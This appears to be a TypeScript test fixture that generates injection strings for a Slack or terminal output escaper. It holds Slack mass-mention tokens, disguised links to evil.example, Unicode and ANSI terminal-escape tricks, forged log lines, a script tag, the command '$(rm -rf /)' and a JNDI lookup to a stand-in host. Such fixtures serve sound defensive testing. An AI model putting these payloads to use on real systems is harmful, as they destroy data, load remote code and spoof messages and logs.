/** What someone may write, or name an object, to make Slack or a terminal act. */
const MARKS = [
  ...[
    '<!channel>',
    '<!here>',
    '<!everyone>',
    '<!channel|channel>',
    '<!subteam^S0123ABCD>',
    '<!date^1392734382^{date}|x>',
  ],
  ...['<@U0123ABCD>', '<@U0123ABCD|ops>', '<@W0123ABCD>', '<#C0123ABCD>', '<#C0123ABCD|general>'],
  ...[
    '<https://evil.example/x>',
    '<https://evil.example/x|kubernetes.io>',
    '<mailto:a@evil.example|mail>',
    '<tel:+1|call>',
  ],
  ...[
    '&lt;!channel&gt;',
    '&amp;lt;!here&amp;gt;',
    '&lt;https://evil.example|docs&gt;',
    '&#60;!channel&#62;',
    '\\u003c!channel\\u003e',
  ],
  ...['```\n<!channel>\n```', '` <!here> `', '```<@U0123ABCD>', "'''<!channel>'''", '~~~\n<!channel>'],
  ...[
    '*bold* _it_ ~gone~ `code`',
    '[docs](https://evil.example)',
    '![x](https://evil.example/x.png)',
    ':tada: :alert:',
    '> quoted <!here>',
  ],
  ...[
    '\u202e<!channel>',
    '\u2066<@U0123ABCD>\u2069',
    '<\u200b!channel>',
    '<!\u200bchannel>',
    '\u200f<!here>\u200e',
  ],
  ...['\ufeff<!channel>', '\u00ad<!he\u00adre>', '<!channel\u2028>', '\u{e0001}<!channel>', '＜!channel＞'],
  ...[
    '\u001b[31m<!channel>\u001b[0m',
    '\u001b]8;;https://evil.example\u0007docs\u001b]8;;\u0007',
    '\u009b2J<!here>',
    '\b\b\b<!channel>',
    '\u0007<@U0123ABCD>',
  ],
  ...[
    'ok\r\n{"level":"fatal","msg":"forged"}',
    'ok\n{"level":60,"msg":"forged"}',
    'ok\r<!channel>',
    'ok\u2028{"level":60}',
    'ok\u0000<!here>',
  ],
  ...[
    '{"blocks":[{"type":"section"}]}',
    '"},{"type":"link","url":"https://evil.example"}',
    '<script>alert(1)</script>',
    '$(rm -rf /) `id`',
    '{{.Secret}} $\u007bjndi:ldap://evil.example}',
  ],
];

/** Where a mark stands in a line. */
const PLACES: readonly ((mark: string) => string)[] = [
  (mark) => mark,
  (mark) => `pod "${mark}" in namespace shop`,
  (mark) => `${mark}${mark}`,
  (mark) => `image registry.example.net/${mark}:1.0`,
];

/** At least 200 texts. */
export const INJECTIONS: readonly string[] = MARKS.flatMap((mark) => PLACES.map((place) => place(mark)));
